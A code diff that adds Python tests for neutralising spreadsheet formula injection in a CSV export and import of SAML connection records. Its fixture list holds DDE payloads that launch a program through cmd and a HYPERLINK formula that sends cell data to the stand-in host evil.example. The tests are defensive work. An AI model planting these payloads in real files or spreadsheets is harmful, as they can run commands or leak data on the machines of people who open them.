@@ -80,3 +80,61 @@ def test_a_hand_written_connection_exports_its_id_as_external_id() -> None:
     (row,) = rows(export_connections_csv(document.connections).text)
     assert row["externalId"] == "acme" and row["idpEntityId"] == "https://i"
     assert row["idpInitiatedEnabled"] == "true"
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "'plain quote",
+]
+
+
+def test_formula_cells_are_neutralised_and_read_back_as_they_were() -> None:
+    document = ConnectionMapDocument.model_validate(
+        {
+            "connections": [
+                {
+                    "id": f"c{number}",
+                    "protocol": "saml",
+                    "name": value,
+                    "organization": {"name": value},
+                    "saml": {
+                        "idp_entity_id": f"https://idp{number}.example",
+                        "idp_metadata_url": f"https://idp{number}.example/metadata",
+                    },
+                }
+                for number, value in enumerate(FORMULAS)
+            ]
+        }
+    )
+
+    exported = export_connections_csv(document.connections, protocol=Protocol.SAML)
+    cells = rows(exported.text)
+
+    # OWASP's rule: no cell starts with = + - @ (or tab, CR); a leading ' marks text.
+    for row, value in zip(cells, FORMULAS, strict=True):
+        assert row["name"] == row["organizationName"] == "'" + value
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row.values()
+    )
+    # The importer reads the project's own export back as it was.
+    again = import_connections_csv(ConnectionMapDocument(), exported.text)
+    assert [(c.name, c.organization.name) for c in again.document.connections] == [
+        (value, value) for value in FORMULAS
+    ]
+
+
+def test_a_hand_written_cell_keeps_a_quote_that_neutralises_nothing() -> None:
+    text = (
+        "name,idpEntityId,idpMetadataUrl,externalId\n"
+        "'Brien's,https://idp.example,https://idp.example/md,c1\n"
+        "'=SUM(1),https://idp2.example,https://idp2.example/md,c2\n"
+    )
+
+    connections = import_connections_csv(ConnectionMapDocument(), text).document.connections
+
+    assert [c.name for c in connections] == ["'Brien's", "=SUM(1)"]
